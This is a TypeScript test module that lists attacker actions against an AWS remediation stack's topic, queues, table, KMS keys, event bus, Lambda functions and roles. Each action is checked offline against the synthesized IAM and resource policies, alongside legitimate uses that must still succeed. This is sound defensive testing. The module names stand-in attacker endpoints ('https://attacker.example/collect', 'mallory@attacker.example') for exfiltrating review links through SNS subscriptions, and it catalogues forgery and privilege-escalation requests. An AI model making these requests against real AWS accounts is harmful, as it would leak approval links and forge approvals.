/**
 * Part A's cases: what an attacker with PowerUserAccess (or a compromised function or channel role)
 * asks AWS to do to the stack's resources, each evaluated against the synthesized template's
 * policies. `residual` marks what the trust boundary says only the SCP stops (Lambda's resource
 * policies cannot deny): without the SCP those succeed, and that list is the documented residual risk.
 */
import type { IConstruct } from 'constructs';
import cloudWatchReadOnlyAccess from '../../fixtures/attacks/cloudwatch-read-only-access.json';
import { ATTACKER_POLICIES, attackerRequest, serviceRequest, sessionArnOf, sessionContext } from './attacker';
import type { AttackRequest } from './policy-evaluator';
import type { PolicyDocument } from './resource-policies';
import { ACCOUNT, REGION, type StackUnderAttack, type Target } from './stack-under-attack';

export interface PreparedAttack {
  request: AttackRequest;
  identityPolicies: { name: string; document: PolicyDocument }[];
  target: Target;
  /** Further policies that must also allow (Chatbot's guardrail intersects the channel role). */
  alsoBoundedBy?: { name: string; document: PolicyDocument }[];
}

export interface ResourceAttack {
  /** What the attacker tries, as the residual-risk line says it. */
  name: string;
  /** The finding of issue 10 it replays. */
  finding: number;
  /** Succeeds without the SCP by design (only the SCP stops it). */
  residual?: true;
  prepare(stack: StackUnderAttack): PreparedAttack;
}

/** A defence the template lacks altogether (no key, no bus): the attack case fails with this. */
export class MissingDefence extends Error {}

const FORGED_RULE_ARN = `arn:aws:events:${REGION}:${ACCOUNT}:rule/attacker-input-transformer`;
const DEFAULT_BUS_ARN = `arn:aws:events:${REGION}:${ACCOUNT}:event-bus/default`;
/** Lambda's basic execution policies give logs only; they cannot touch the attacked resources. */
const HARMLESS_MANAGED_POLICIES = [
  /:iam::aws:policy\/service-role\/AWSLambdaBasicExecutionRole$/,
  /:iam::aws:policy\/AWSXRayDaemonWriteAccess$/,
];
const KNOWN_MANAGED_POLICIES: Record<string, PolicyDocument> = {
  CloudWatchReadOnlyAccess: JSON.parse(JSON.stringify(cloudWatchReadOnlyAccess)) as PolicyDocument,
};

// ---------------------------------------------------------------- the attacked resources

function decisionKey(stack: StackUnderAttack): Target {
  const key = stack.findTarget(
    'the decision signing key',
    'AWS::KMS::Key',
    (resource) =>
      resource.Properties?.['KeySpec'] === 'ECC_NIST_P256' &&
      resource.Properties['KeyUsage'] === 'SIGN_VERIFY',
  );
  if (key === null)
    throw new MissingDefence('the template has no ECC_NIST_P256 SIGN_VERIFY key: decisions are not signed');
  return key;
}

/** The link MAC key, or (finding 3 unfixed) the Secrets Manager secret that holds the link key. */
function linkKey(stack: StackUnderAttack): { kind: 'hmac-key' | 'secret'; target: Target } {
  const key = stack.findTarget(
    'the review-link MAC key',
    'AWS::KMS::Key',
    (resource) => resource.Properties?.['KeySpec'] === 'HMAC_256',
  );
  if (key !== null) return { kind: 'hmac-key', target: key };
  const secret = stack.findTarget('the review-link secret', 'AWS::SecretsManager::Secret');
  if (secret === null) throw new MissingDefence('the template has neither an HMAC_256 key nor a link secret');
  return { kind: 'secret', target: secret };
}

/** The stack's own bus for "Proposal Applied", or (finding 10 unfixed) the account's default bus. */
function appliedEventsBus(stack: StackUnderAttack): Target {
  return (
    stack.findTarget("the stack's event bus", 'AWS::Events::EventBus') ?? {
      logicalId: '(default bus)',
      arn: DEFAULT_BUS_ARN,
      policy: undefined,
      tags: {},
    }
  );
}

function chatbotRole(stack: StackUnderAttack): IConstruct {
  const role = stack.remediation.notificationChannel.chatbotRole;
  if (role === undefined)
    throw new Error('the attack context configures Slack and Teams: a Chatbot role must exist');
  return role;
}

/** The function roles, by what the function does. */
function functionRoles(stack: StackUnderAttack): { name: string; role: IConstruct }[] {
  const { remediation } = stack;
  return [
    { name: 'diagnose', role: remediation.functionRole },
    { name: 'approval', role: remediation.approvalFunctionRole },
    { name: 'apply', role: remediation.applyFunctionRole },
    { name: 'reconcile', role: remediation.reconciler.role },
  ];
}

/** A role's identity policies, including the AWS managed ones it attaches (which must be known). */
function roleIdentity(
  stack: StackUnderAttack,
  role: IConstruct,
): { name: string; document: PolicyDocument }[] {
  const managed = stack.roleManagedPolicies(role).flatMap((arn) => {
    // Customer managed policies of the template are among roleIdentityPolicies already.
    if (!arn.includes(':iam::aws:policy/')) return [];
    if (HARMLESS_MANAGED_POLICIES.some((pattern) => pattern.test(arn))) return [];
    const name = arn.split('/').pop() ?? arn;
    const document = KNOWN_MANAGED_POLICIES[name];
    if (document === undefined) {
      throw new Error(`role attaches ${arn}: copy its document into test/fixtures/attacks/ to evaluate it`);
    }
    return [{ name, document }];
  });
  return [...stack.roleIdentityPolicies(role), ...managed];
}

/** A request by a session of one of the stack's own roles. */
function roleRequest(
  stack: StackUnderAttack,
  role: IConstruct,
  action: string,
  target: Target,
  extra: Record<string, string> = {},
): PreparedAttack {
  const roleArn = stack.roleArn(role);
  return {
    request: {
      principal: sessionArnOf(roleArn, 'function'),
      action,
      resourceArn: target.arn,
      context: { ...sessionContext(roleArn, 'function'), ...tagContext(target), ...extra },
    },
    identityPolicies: roleIdentity(stack, role),
    target,
  };
}

function tagContext(target: Target): Record<string, string> {
  return Object.fromEntries(
    Object.entries(target.tags).map(([key, value]) => [`aws:ResourceTag/${key}`, value]),
  );
}

/** The attacker's request on `target`. */
function byAttacker(
  action: string,
  target: Target,
  extra: Record<string, string | string[]> = {},
): PreparedAttack {
  return {
    request: attackerRequest(action, target.arn, { ...tagContext(target), ...extra }),
    identityPolicies: ATTACKER_POLICIES,
    target,
  };
}

// ---------------------------------------------------------------- the cases

const FORGED_APPROVED_ITEM_KEYS = ['pk', 'sk', 'status', 'proposal', 'decision', 'history'];

export const RESOURCE_ATTACKS: ResourceAttack[] = [
  {
    name: 'subscribe an https endpoint of their own to the topic and receive every review link (sns:Subscribe)',
    finding: 6,
    prepare: (stack) =>
      byAttacker('sns:Subscribe', stack.targetOf(stack.remediation.topic), {
        'sns:Protocol': 'https',
        'sns:Endpoint': 'https://attacker.example/collect',
      }),
  },
  {
    name: 'subscribe an email address of their own to the topic (sns:Subscribe)',
    finding: 6,
    prepare: (stack) =>
      byAttacker('sns:Subscribe', stack.targetOf(stack.remediation.topic), {
        'sns:Protocol': 'email',
        'sns:Endpoint': 'mallory@attacker.example',
      }),
  },
  {
    name: 'publish a fake proposal message to the channel (sns:Publish)',
    finding: 6,
    prepare: (stack) => byAttacker('sns:Publish', stack.targetOf(stack.remediation.topic)),
  },
  {
    name: "rewrite the topic's policy (sns:SetTopicAttributes)",
    finding: 6,
    prepare: (stack) => byAttacker('sns:SetTopicAttributes', stack.targetOf(stack.remediation.topic)),
  },
  {
    name: "add a statement to the topic's policy (sns:AddPermission)",
    finding: 6,
    prepare: (stack) => byAttacker('sns:AddPermission', stack.targetOf(stack.remediation.topic)),
  },
  {
    name: 'deliver a forged denial to the routing queue from their own rule with an InputTransformer (sqs:SendMessage as events.amazonaws.com)',
    finding: 4,
    prepare: (stack) => {
      const target = stack.targetOf(stack.remediation.queue);
      return {
        request: serviceRequest('events.amazonaws.com', 'sqs:SendMessage', target.arn, FORGED_RULE_ARN),
        identityPolicies: [],
        target,
      };
    },
  },
  {
    name: 'send a forged denial to the routing queue directly (sqs:SendMessage)',
    finding: 4,
    prepare: (stack) => byAttacker('sqs:SendMessage', stack.targetOf(stack.remediation.queue)),
  },
  {
    name: "rewrite the routing queue's policy (sqs:SetQueueAttributes)",
    finding: 4,
    prepare: (stack) => byAttacker('sqs:SetQueueAttributes', stack.targetOf(stack.remediation.queue)),
  },
  {
    name: 'put a forged approved item into the proposals table (dynamodb:PutItem)',
    finding: 2,
    prepare: (stack) =>
      byAttacker('dynamodb:PutItem', stack.targetOf(stack.remediation.proposalsTable), {
        'dynamodb:Attributes': FORGED_APPROVED_ITEM_KEYS,
      }),
  },
  {
    name: 'turn a pending proposal approved in the table (dynamodb:UpdateItem)',
    finding: 2,
    prepare: (stack) => byAttacker('dynamodb:UpdateItem', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: 'delete a proposal record from the table (dynamodb:DeleteItem)',
    finding: 2,
    prepare: (stack) => byAttacker('dynamodb:DeleteItem', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: "replace the table's resource policy (dynamodb:PutResourcePolicy)",
    finding: 2,
    prepare: (stack) =>
      byAttacker('dynamodb:PutResourcePolicy', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: "delete the table's resource policy (dynamodb:DeleteResourcePolicy)",
    finding: 2,
    prepare: (stack) =>
      byAttacker('dynamodb:DeleteResourcePolicy', stack.targetOf(stack.remediation.proposalsTable)),
  },
  {
    name: 'sign a forged decision with the decision key (kms:Sign)',
    finding: 2,
    prepare: (stack) =>
      byAttacker('kms:Sign', decisionKey(stack), {
        'kms:SigningAlgorithm': 'ECDSA_SHA_256',
        'kms:MessageType': 'RAW',
      }),
  },
  {
    name: 'grant themselves kms:Sign on the decision key (kms:CreateGrant)',
    finding: 2,
    prepare: (stack) =>
      byAttacker('kms:CreateGrant', decisionKey(stack), {
        'kms:GrantOperations': ['Sign'],
        'kms:GranteePrincipal': `arn:aws:iam::${ACCOUNT}:role/developer`,
      }),
  },
  {
    name: "rewrite the decision key's policy (kms:PutKeyPolicy)",
    finding: 2,
    prepare: (stack) => byAttacker('kms:PutKeyPolicy', decisionKey(stack)),
  },
  {
    name: 'mint a review-link token with the link key (kms:GenerateMac, or the secret read)',
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      return link.kind === 'hmac-key'
        ? byAttacker('kms:GenerateMac', link.target, { 'kms:MacAlgorithm': 'HMAC_SHA_256' })
        : byAttacker('secretsmanager:GetSecretValue', link.target);
    },
  },
  {
    name: 'check guessed review-link tokens with the link key (kms:VerifyMac, or the secret overwritten)',
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      return link.kind === 'hmac-key'
        ? byAttacker('kms:VerifyMac', link.target, { 'kms:MacAlgorithm': 'HMAC_SHA_256' })
        : byAttacker('secretsmanager:PutSecretValue', link.target);
    },
  },
  {
    name: "rewrite the link key's policy (kms:PutKeyPolicy, or secretsmanager:PutResourcePolicy)",
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      return link.kind === 'hmac-key'
        ? byAttacker('kms:PutKeyPolicy', link.target)
        : byAttacker('secretsmanager:PutResourcePolicy', link.target);
    },
  },
  {
    name: "rewrite the queues' and topic's data key policy (kms:PutKeyPolicy)",
    finding: 4,
    prepare: (stack) => byAttacker('kms:PutKeyPolicy', stack.targetOf(stack.remediation.key)),
  },
  {
    name: 'put a forged "Proposal Applied" event on the bus automation listens to (events:PutEvents)',
    finding: 10,
    prepare: (stack) =>
      byAttacker('events:PutEvents', appliedEventsBus(stack), {
        'events:source': 'passrole-doctor',
        'events:detail-type': 'Proposal Applied',
      }),
  },
  // events:PutPermission and RemovePermission have no resource type (IAM authorizes them on "*"): the
  // bus's own policy is never consulted, so only the SCP can stop a rewrite of it.
  ...['PutPermission', 'RemovePermission'].map((action): ResourceAttack => ({
    name: `replace or remove the statements of the stack's event bus policy (events:${action})`,
    finding: 10,
    residual: true,
    prepare: (stack) => {
      const bus = appliedEventsBus(stack);
      return byAttacker(`events:${action}`, { ...bus, arn: '*', policy: undefined });
    },
  })),
  {
    name: 'invoke the approval function directly with a made-up authorizer context (lambda:InvokeFunction)',
    finding: 1,
    residual: true,
    prepare: (stack) =>
      byAttacker('lambda:InvokeFunction', stack.targetOf(stack.remediation.approvalFunction)),
  },
  {
    name: 'invoke the apply function directly with a proposal id of their choosing (lambda:InvokeFunction)',
    finding: 2,
    residual: true,
    prepare: (stack) => byAttacker('lambda:InvokeFunction', stack.targetOf(stack.remediation.applyFunction)),
  },
  {
    name: "replace the apply function's code (lambda:UpdateFunctionCode)",
    finding: 5,
    residual: true,
    prepare: (stack) =>
      byAttacker('lambda:UpdateFunctionCode', stack.targetOf(stack.remediation.applyFunction)),
  },
  {
    name: "change the approval function's settings, e.g. APPROVERS (lambda:UpdateFunctionConfiguration)",
    finding: 1,
    residual: true,
    prepare: (stack) =>
      byAttacker('lambda:UpdateFunctionConfiguration', stack.targetOf(stack.remediation.approvalFunction)),
  },
  {
    name: 'assume the apply role (sts:AssumeRole)',
    finding: 5,
    prepare: (stack) => {
      const role = stack.remediation.applyFunctionRole;
      return byAttacker('sts:AssumeRole', stack.targetOf(role));
    },
  },
  {
    name: 'add a policy to the apply role (iam:PutRolePolicy)',
    finding: 5,
    prepare: (stack) => byAttacker('iam:PutRolePolicy', stack.targetOf(stack.remediation.applyFunctionRole)),
  },
  {
    name: "read the functions' logs through the Chatbot channel role (logs:FilterLogEvents)",
    finding: 7,
    prepare: (stack) => chatbotReadsLogs(stack, 'logs:FilterLogEvents'),
  },
  {
    name: "read the functions' logs through the Chatbot channel role (logs:GetLogEvents)",
    finding: 7,
    prepare: (stack) => chatbotReadsLogs(stack, 'logs:GetLogEvents'),
  },
  {
    name: "query the functions' logs through the Chatbot channel role (logs:StartQuery)",
    finding: 7,
    prepare: (stack) => chatbotReadsLogs(stack, 'logs:StartQuery'),
  },
  ...['DeleteItem', 'BatchWriteItem', 'Scan'].flatMap((action) =>
    ['diagnose', 'approval', 'apply', 'reconcile'].map((functionName): ResourceAttack => ({
      name: `use the ${functionName} function's role to call dynamodb:${action} on the proposals table`,
      finding: 11,
      prepare: (stack) => {
        const entry = functionRoles(stack).find((candidate) => candidate.name === functionName);
        if (entry === undefined) throw new Error(`no ${functionName} role`);
        return roleRequest(
          stack,
          entry.role,
          `dynamodb:${action}`,
          stack.targetOf(stack.remediation.proposalsTable),
        );
      },
    })),
  ),
  ...['diagnose', 'apply', 'reconcile'].map((functionName): ResourceAttack => ({
    name: `use the ${functionName} function's role to sign a decision (kms:Sign)`,
    finding: 2,
    prepare: (stack) => {
      const entry = functionRoles(stack).find((candidate) => candidate.name === functionName);
      if (entry === undefined) throw new Error(`no ${functionName} role`);
      return roleRequest(stack, entry.role, 'kms:Sign', decisionKey(stack), {
        'kms:SigningAlgorithm': 'ECDSA_SHA_256',
        'kms:MessageType': 'RAW',
      });
    },
  })),
  {
    name: "use the approval function's role to mint a review-link token (kms:GenerateMac)",
    finding: 3,
    prepare: (stack) => {
      const link = linkKey(stack);
      if (link.kind !== 'hmac-key')
        throw new MissingDefence('no HMAC_256 link key: the link key is a readable secret');
      return roleRequest(stack, stack.remediation.approvalFunctionRole, 'kms:GenerateMac', link.target, {
        'kms:MacAlgorithm': 'HMAC_SHA_256',
      });
    },
  },
];

/** The Chatbot channel role reading a function's log group; the channel's guardrails bound it too. */
function chatbotReadsLogs(stack: StackUnderAttack, action: string): PreparedAttack {
  const role = chatbotRole(stack);
  const functionName = stack.resolver.resolveString({ Ref: logicalIdOfFunction(stack) }, 'approval function');
  const logGroup = `arn:aws:logs:${REGION}:${ACCOUNT}:log-group:/aws/lambda/${functionName}`;
  // GetLogEvents is authorized on the stream, the others on the group.
  const arn =
    action === 'logs:GetLogEvents' ? `${logGroup}:log-stream:2026/12/06/[$LATEST]0123abcd` : logGroup;
  const target: Target = {
    logicalId: "(the approval function's log group)",
    arn,
    policy: undefined,
    tags: {},
  };
  return { ...roleRequest(stack, role, action, target), alsoBoundedBy: guardrailsOf(stack) };
}

function logicalIdOfFunction(stack: StackUnderAttack): string {
  return stack.targetOf(stack.remediation.approvalFunction).logicalId;
}

/** The channel configurations' guardrail policies: template policies, or the known AWS managed ones. */
function guardrailsOf(stack: StackUnderAttack): { name: string; document: PolicyDocument }[] {
  const guardrails: { name: string; document: PolicyDocument }[] = [];
  for (const resource of Object.values(stack.template.Resources)) {
    if (!resource.Type.startsWith('AWS::Chatbot::')) continue;
    const list = stack.resolver.resolve(resource.Properties?.['GuardrailPolicies'] ?? []);
    for (const arn of Array.isArray(list) ? list.map(String) : []) {
      const name = arn.split('/').pop() ?? arn;
      const inTemplate = Object.entries(stack.template.Resources).find(
        ([logicalId, candidate]) =>
          candidate.Type === 'AWS::IAM::ManagedPolicy' && stack.resolver.resolve({ Ref: logicalId }) === arn,
      );
      const document = inTemplate
        ? (stack.resolver.resolve(inTemplate[1].Properties?.['PolicyDocument'] ?? {}) as PolicyDocument)
        : KNOWN_MANAGED_POLICIES[name];
      // AWS's ReadOnlyAccess (the old guardrail) includes logs:Get* and logs:FilterLogEvents: as good as allowing.
      guardrails.push({
        name,
        document: document ?? {
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
        },
      });
    }
  }
  return guardrails;
}

/** Uses of the resources the stack itself makes: each must still be allowed (a Deny-all would pass every attack). */
export interface LegitimateUse {
  name: string;
  prepare(stack: StackUnderAttack): PreparedAttack;
}

export const LEGITIMATE_USES: LegitimateUse[] = [
  {
    name: "EventBridge delivers a denial from the stack's own rule to the routing queue",
    prepare: (stack) => {
      const target = stack.targetOf(stack.remediation.queue);
      const rule = stack.targetOf(stack.remediation.rule);
      return {
        request: serviceRequest('events.amazonaws.com', 'sqs:SendMessage', target.arn, rule.arn),
        identityPolicies: [],
        target,
      };
    },
  },
  {
    name: 'the diagnose function publishes a message to the topic',
    prepare: (stack) =>
      roleRequest(
        stack,
        stack.remediation.functionRole,
        'sns:Publish',
        stack.targetOf(stack.remediation.topic),
      ),
  },
  {
    name: 'the diagnose function puts a new proposal into the table',
    prepare: (stack) =>
      roleRequest(
        stack,
        stack.remediation.functionRole,
        'dynamodb:PutItem',
        stack.targetOf(stack.remediation.proposalsTable),
      ),
  },
  {
    name: 'the approval function records a decision in the table',
    prepare: (stack) =>
      roleRequest(
        stack,
        stack.remediation.approvalFunctionRole,
        'dynamodb:UpdateItem',
        stack.targetOf(stack.remediation.proposalsTable),
      ),
  },
  {
    name: 'the approval function signs a decision',
    prepare: (stack) =>
      roleRequest(stack, stack.remediation.approvalFunctionRole, 'kms:Sign', decisionKey(stack), {
        'kms:SigningAlgorithm': 'ECDSA_SHA_256',
        'kms:MessageType': 'RAW',
      }),
  },
  {
    name: 'the apply function reads the decision public key',
    prepare: (stack) =>
      roleRequest(stack, stack.remediation.applyFunctionRole, 'kms:GetPublicKey', decisionKey(stack)),
  },
  {
    name: 'the diagnose function mints a review-link token',
    prepare: (stack) => {
      const link = linkKey(stack);
      if (link.kind !== 'hmac-key') throw new MissingDefence('no HMAC_256 link key');
      return roleRequest(stack, stack.remediation.functionRole, 'kms:GenerateMac', link.target, {
        'kms:MacAlgorithm': 'HMAC_SHA_256',
      });
    },
  },
  {
    name: 'the approval function verifies a review-link token',
    prepare: (stack) => {
      const link = linkKey(stack);
      if (link.kind !== 'hmac-key') throw new MissingDefence('no HMAC_256 link key');
      return roleRequest(stack, stack.remediation.approvalFunctionRole, 'kms:VerifyMac', link.target, {
        'kms:MacAlgorithm': 'HMAC_SHA_256',
      });
    },
  },
  {
    name: 'the apply function puts "Proposal Applied" on the stack\'s bus',
    prepare: (stack) =>
      roleRequest(stack, stack.remediation.applyFunctionRole, 'events:PutEvents', appliedEventsBus(stack), {
        'events:source': 'passrole-doctor',
        'events:detail-type': 'Proposal Applied',
      }),
  },
];
